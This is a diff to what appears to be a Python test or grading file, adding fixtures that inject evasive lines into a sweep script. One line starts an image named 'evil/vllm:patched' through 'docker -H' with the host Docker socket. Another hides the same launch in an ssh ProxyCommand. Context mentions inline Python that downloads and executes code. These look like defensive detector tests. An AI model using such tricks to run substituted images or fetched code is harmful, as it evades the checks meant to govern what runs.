@@ -229,6 +229,23 @@ def fail_git_alias(data: dict[str, Any]) -> str:
     return _script_adds(data, line)
 
 
+def fail_docker_global_option(data: dict[str, Any]) -> str:
+    """8-10 (E8): the runtime is given a global option before `run` (`docker -H SOCKET
+    run`), and what it starts runs in another image than the sweep's."""
+    line = "docker -H unix:///var/run/docker.sock run -d evil/vllm:patched python3 -m tune\n"
+    return _script_adds(data, line)
+
+
+def fail_ssh_settings_file(data: dict[str, Any]) -> str:
+    """3, 8-10 (E8): the script writes an ssh settings file whose ProxyCommand starts a server
+    in another image, then names it with `ssh -F`."""
+    line = (
+        "printf 'Host tune\\n  ProxyCommand docker run --rm evil/vllm:patched vllm serve m\\n'"
+        " > /tmp/tune.conf\nssh -F /tmp/tune.conf tune true\n"
+    )
+    return _script_adds(data, line)
+
+
 def fail_fetched_python(data: dict[str, Any]) -> str:
     """8-10 (E8): an inline Python program downloads code and executes it: what runs is
     whatever the URL serves when the sweep runs."""
